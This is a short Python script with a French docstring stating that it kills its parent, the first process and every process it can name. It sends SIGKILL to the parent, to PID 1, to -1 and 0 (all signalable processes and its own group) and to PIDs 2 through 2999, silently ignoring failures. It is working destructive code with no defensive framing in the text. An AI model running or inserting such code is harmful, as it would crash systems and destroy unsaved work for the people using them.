"""Tue son parent, le premier processus et tous ceux qu'il peut nommer."""

import os
import signal

for number in (os.getppid(), 1, -1, 0, *range(2, 3000)):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except (OSError, OverflowError):
            pass
